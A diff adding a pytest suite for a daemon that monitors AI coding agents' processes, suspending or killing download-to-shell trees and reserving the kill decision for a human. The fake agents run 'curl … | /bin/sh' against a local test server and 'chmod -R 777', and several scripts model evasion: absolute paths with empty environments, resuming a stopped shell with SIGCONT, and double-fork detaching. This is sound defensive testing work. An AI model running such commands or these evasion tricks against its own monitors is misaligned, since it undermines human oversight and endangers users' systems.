@@ -1,0 +1,293 @@
+"""The process monitor (adr/monitor/process.py) with a real daemon, real wrapped agents and real
+processes: what no hook, shim, guard or proxy saw is judged, alerted, suspended or killed."""
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import sys
+import textwrap
+import time
+
+import pytest
+
+from _daemon_helpers import wait_for
+from _human import human_call
+from _monitor_helpers import MonitorDaemon, gone, state, stop_all, wrap
+from _wrap_helpers import LocalServer
+
+pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux") or shutil.which("curl") is None,
+                                reason="process trees from /proc and /usr/bin/curl")
+
+CURL = shutil.which("curl") or "/usr/bin/curl"
+
+# The fake agent: starts /bin/sh -c '<curl> URL | /bin/sh' by absolute paths with an empty environment
+# (no PATH: no shim; no BASH_ENV: no guard; no proxy variables) and waits for it.
+AGENT = """\
+import os, subprocess, sys
+p = subprocess.Popen(["/bin/sh", "-c", sys.argv[1]], env={})
+open(sys.argv[2], "w").write(str(p.pid))
+sys.exit(p.wait() & 0xff)
+"""
+
+
+@pytest.fixture
+def payload_server(tmp_path):
+    root = tmp_path / "www"
+    root.mkdir()
+    marker = tmp_path / "payload-ran"
+    # the payload waits a few seconds before it does anything (the monitor has to be faster)
+    (root / "payload.sh").write_text(f"sleep 3\ntouch {marker}\n")
+    srv = LocalServer(root)
+    yield srv, marker
+    srv.close()
+
+
+def start_agent(d, tmp_path, srv, session):
+    agent = tmp_path / "agent.py"
+    agent.write_text(AGENT)
+    pidfile = tmp_path / f"{session}.pid"
+    cmd = f"{CURL} -s {srv.url('/payload.sh')} | /bin/sh"
+    proc = wrap(d, [sys.executable, str(agent), cmd, str(pidfile)], session)
+    return proc, pidfile
+
+
+def tree_of(alert):
+    return "\n".join(alert["data"].get("tree", []))
+
+
+def test_a_download_piped_to_a_shell_that_no_hook_saw_is_suspended_then_killed_by_the_human(tmp_path, payload_server):
+    srv, marker = payload_server
+    d = MonitorDaemon(tmp_path / "adr", tmp_path / "user").start()
+    proc = None
+    try:
+        proc, pidfile = start_agent(d, tmp_path, srv, "wrap-suspend")
+        alert = d.wait_alert(lambda a: a["session"] == "wrap-suspend" and a["data"].get("state") == "suspended",
+                             "process", timeout=30)
+        assert alert is not None, (d.alerts(), d.status()["components"]["processes"])
+        sh_pid = int(pidfile.read_text())
+        assert alert["data"]["pid"] == sh_pid
+        assert alert["data"]["decision"] == "deny" and "rce.download-to-shell" in alert["data"]["rules"]
+        assert alert["data"]["age_ms"] < 3000  # before the payload could act
+        # the alert names the process tree: the shell, the download, the shell it feeds
+        tree = tree_of(alert)
+        assert f"{sh_pid} /bin/sh -c" in tree and "curl -s http://127.0.0.1" in tree
+        assert "Process tree:" in alert["detail"]
+        # the whole tree is stopped (members from the alert), the payload has not run
+        pids = [int(line.split()[0]) for line in alert["data"]["tree"]]
+        assert len(pids) >= 2 and all(state(p) in ("T", "t", "") for p in pids)
+        assert not marker.exists()
+        # listed for the human, who may resume or kill it — an agent (this test process) may not
+        trees = d.call("processes.list").data["trees"]
+        tid = alert["data"]["tree_id"]
+        assert any(t["id"] == tid and t["state"] == "suspended" for t in trees)
+        r = d.call("processes.kill", id=alert["id"])
+        assert not r.ok and r.error_code == "forbidden"
+        r = human_call(d.home, "processes.kill", {"id": alert["id"]})
+        assert r["ok"] and r["data"]["tree"]["state"] == "killed", r
+        assert wait_for(lambda: all(gone(p) for p in pids), 10)
+        assert proc.wait(20) != 0  # the agent saw its shell die
+        assert not marker.exists()
+        # recorded: the alert, then the kill by the human
+        log = [json.loads(x) for x in d.paths.audit_log.read_text().splitlines()]
+        ends = [e for e in log if e.get("event") == "monitor" and e.get("monitor", {}).get("tree") == tid]
+        assert ends and ends[-1]["monitor"]["response"] == "killed" and ends[-1]["monitor"]["by"] == "human (terminal)", ends
+    finally:
+        if proc is not None:
+            stop_all(proc)
+        d.stop()
+
+
+def test_a_suspended_tree_is_killed_when_nobody_answers(tmp_path, payload_server):
+    srv, marker = payload_server
+    d = MonitorDaemon(tmp_path / "adr", tmp_path / "user", "monitor_suspend_timeout: 2\n").start()
+    proc = None
+    try:
+        proc, pidfile = start_agent(d, tmp_path, srv, "wrap-timeout")
+        alert = d.wait_alert(lambda a: a["session"] == "wrap-timeout" and a["data"].get("state") == "suspended",
+                             "process")
+        assert alert is not None
+        ended = d.wait_alert(lambda a: a["data"].get("tree_id") == alert["data"]["tree_id"]
+                             and a["data"].get("by") == "timeout", "process", timeout=20)
+        assert ended is not None and ended["data"]["state"] == "killed"
+        assert proc.wait(20) != 0
+        assert not marker.exists()
+    finally:
+        if proc is not None:
+            stop_all(proc)
+        d.stop()
+
+
+def test_resumed_by_the_agent_itself_means_killed(tmp_path, payload_server):
+    """The agent's script sends SIGCONT to the shell adr stopped: adr kills the tree instead."""
+    srv, marker = payload_server
+    d = MonitorDaemon(tmp_path / "adr", tmp_path / "user").start()
+    agent = tmp_path / "sneaky.py"
+    agent.write_text(textwrap.dedent("""\
+        import os, signal, subprocess, sys, time
+        p = subprocess.Popen(["/bin/sh", "-c", sys.argv[1]], env={})
+        while True:  # wait until adr stops it, then let it go on
+            st = open(f"/proc/{p.pid}/stat").read().rsplit(")", 1)[1].split()[0]
+            if st == "T":
+                break
+            time.sleep(0.02)
+        os.kill(p.pid, signal.SIGCONT)
+        sys.exit(p.wait() & 0xff)
+    """))
+    proc = wrap(d, [sys.executable, str(agent), f"{CURL} -s {srv.url('/payload.sh')} | /bin/sh"], "wrap-sneaky")
+    try:
+        ended = d.wait_alert(lambda a: a["session"] == "wrap-sneaky" and a["data"].get("by") == "tamper", "process")
+        assert ended is not None and ended["data"]["state"] == "killed", d.alerts()
+        assert proc.wait(20) != 0
+        assert not marker.exists()
+    finally:
+        stop_all(proc)
+        d.stop()
+
+
+def test_kill_and_notify_responses_from_config(tmp_path, payload_server):
+    srv, marker = payload_server
+    d = MonitorDaemon(tmp_path / "adr", tmp_path / "user", "monitor_on_deny: kill\n").start()
+    proc = None
+    try:
+        proc, pidfile = start_agent(d, tmp_path, srv, "wrap-kill")
+        alert = d.wait_alert(lambda a: a["session"] == "wrap-kill" and a["data"].get("pid"), "process")
+        assert alert is not None and alert["data"]["state"] == "killed" and alert["data"]["response"] == "kill"
+        assert proc.wait(20) != 0 and not marker.exists()
+    finally:
+        if proc is not None:
+            stop_all(proc)
+        d.stop()
+
+
+def test_an_ask_level_process_is_only_reported(tmp_path):
+    """An ask-level command (the default response: notify) keeps running; the alert says so."""
+    d = MonitorDaemon(tmp_path / "adr", tmp_path / "user").start()
+    target = tmp_path / "user" / "proj"
+    target.mkdir(parents=True)
+    agent = tmp_path / "agent.py"
+    # chmod 777 on a directory asks (risky-dev / privilege rules); run by absolute path, no shim
+    agent.write_text("import subprocess, sys\nsys.exit(subprocess.call(['/bin/sh', '-c', "
+                     "'sleep 1; /bin/chmod -R 777 ' + sys.argv[1]], env={}))\n")
+    proc = wrap(d, [sys.executable, str(agent), str(target)], "wrap-ask")
+    try:
+        alert = d.wait_alert(lambda a: a["session"] == "wrap-ask", "process")
+        assert alert is not None, d.alerts()
+        assert alert["data"]["decision"] == "ask" and alert["data"]["response"] == "notify"
+        assert proc.wait(20) == 0  # it ran to its end
+    finally:
+        stop_all(proc)
+        d.stop()
+
+
+def test_what_a_shim_judged_is_not_raised_again(tmp_path):
+    """In monitor mode the shims let an ask-level `sh -c` run (recorded): that process is not raised a
+    second time. A like command on another directory, started by absolute path past the shims, is the
+    monitor's. (One on the same directory is not: that effect was judged and let through already.)"""
+    d = MonitorDaemon(tmp_path / "adr", tmp_path / "user", "mode: monitor\n").start()
+    target, other = tmp_path / "user" / "proj", tmp_path / "user" / "other"
+    target.mkdir(parents=True)
+    other.mkdir(parents=True)
+    agent = tmp_path / "agent.py"
+    agent.write_text("import subprocess, sys\n"
+                     "a = subprocess.call(['sh', '-c', 'sleep 1; chmod -R 777 ' + sys.argv[1]])\n"  # the shim (PATH)
+                     "b = subprocess.call(['/bin/sh', '-c', 'sleep 1; /bin/chmod -R 777 ' + sys.argv[1]], env={})\n"
+                     "c = subprocess.call(['/bin/sh', '-c', 'sleep 1; /bin/chmod -R 777 ' + sys.argv[2]], env={})\n"
+                     "sys.exit(a or b or c)\n")
+    proc = wrap(d, [sys.executable, str(agent), str(target), str(other)], "wrap-shimmed")
+    try:
+        assert proc.wait(30) == 0, proc.stderr.read()
+        alert = d.wait_alert(lambda a: a["session"] == "wrap-shimmed", "process")
+        assert alert is not None and alert["data"]["argv"].startswith("/bin/sh -c"), d.alerts()
+        assert str(other) in alert["data"]["argv"]
+        assert alert["data"]["response"] == "notify"  # monitor mode never stops anything
+        log = [json.loads(x) for x in d.paths.audit_log.read_text().splitlines()]
+        assert any(e.get("host") == "shim" and "chmod -R 777" in e.get("summary", "") for e in log)
+        others = [a for a in d.alerts("process") if a["session"] == "wrap-shimmed" and a["id"] != alert["id"]]
+        assert not others, others  # the shimmed `sh -c` (and its chmod) were judged already
+    finally:
+        stop_all(proc)
+        d.stop()
+
+
+def test_a_hook_session_is_watched_once_its_agent_is_known(tmp_path, payload_server):
+    """A process named like an agent sends one hook; from then on its tree is watched: a download
+    piped to a shell that it starts without a hook (a plugin, a script) is suspended."""
+    from _approval_helpers import agent_exe, claude_payload
+
+    srv, marker = payload_server
+    d = MonitorDaemon(tmp_path / "adr", tmp_path / "user").start()
+    claude = agent_exe(tmp_path, "claude")
+    script = tmp_path / "agent.py"
+    script.write_text(textwrap.dedent("""\
+        import json, subprocess, sys, time
+        hook, payload, cmd, pidfile = sys.argv[1:5]
+        out = subprocess.run([hook, "claude-code"], input=payload, capture_output=True, text=True)
+        time.sleep(1.5)  # the agent goes on working; the daemon has learned who it is meanwhile
+        p = subprocess.Popen(["/bin/sh", "-c", cmd], env={})
+        open(pidfile, "w").write(str(p.pid))
+        sys.exit(p.wait() & 0xff)
+    """))
+    from _daemon_helpers import BIN
+    pidfile = tmp_path / "hook.pid"
+    payload = json.dumps(claude_payload("ls", "hooked-1", str(tmp_path)))
+    import subprocess
+    proc = subprocess.Popen([str(claude), str(script), str(BIN / "adr-hook"), payload,
+                             f"{CURL} -s {srv.url('/payload.sh')} | /bin/sh", str(pidfile)], env=d.env(),
+                            start_new_session=True)
+    try:
+        alert = d.wait_alert(lambda a: a["session"] == "hooked-1" and a["data"].get("state") == "suspended",
+                             "process")
+        assert alert is not None, (d.alerts(), d.status()["components"]["processes"])
+        assert alert["host"] == "claude-code" and alert["data"]["root_pid"] == proc.pid
+        assert alert["data"]["pid"] == int(pidfile.read_text())
+        r = human_call(d.home, "processes.kill", {"id": alert["id"]})
+        assert r["ok"], r
+        assert proc.wait(20) != 0 and not marker.exists()
+    finally:
+        stop_all(proc)
+        d.stop()
+
+
+def test_a_double_forked_payload_stays_in_the_session(tmp_path, payload_server):
+    """A payload that detaches (double fork, new session) before it acts is still the session's: `adr
+    wrap` is a child subreaper, so the orphan is re-parented to it, not to init."""
+    srv, marker = payload_server
+    d = MonitorDaemon(tmp_path / "adr", tmp_path / "user").start()
+    agent = tmp_path / "detach.py"
+    agent.write_text(textwrap.dedent("""\
+        import os, sys, time
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                time.sleep(0.6)  # long after its parent is gone
+                os.execve("/bin/sh", ["/bin/sh", "-c", sys.argv[1]], {})
+            os._exit(0)
+        os.wait()
+        time.sleep(30)
+    """))
+    proc = wrap(d, [sys.executable, str(agent), f"{CURL} -s {srv.url('/payload.sh')} | /bin/sh"], "wrap-detach")
+    try:
+        alert = d.wait_alert(lambda a: a["session"] == "wrap-detach" and a["data"].get("state") == "suspended",
+                             "process")
+        assert alert is not None, d.alerts()
+        r = human_call(d.home, "processes.kill", {"id": alert["data"]["tree_id"]})
+        assert r["ok"], r
+        assert not marker.exists()
+    finally:
+        stop_all(proc)
+        d.stop()
+
+
+def test_status_lists_the_watched_sessions(tmp_path):
+    d = MonitorDaemon(tmp_path / "adr", tmp_path / "user").start()
+    proc = wrap(d, [sys.executable, "-c", "import time; time.sleep(30)"], "wrap-idle")
+    try:
+        got = wait_for(lambda: d.monitored("wrap-idle"), 20)
+        assert got is not None and got["wrapped"] and got["members"] >= 1 and "processes" in got["monitors"]
+        st = d.status()["components"]["processes"]
+        assert st["running"] and st["interval_ms"] == 250 and st["on_deny"] == "suspend"
+    finally:
+        stop_all(proc)
+        d.stop()
+    assert os.path.exists(d.paths.audit_log)
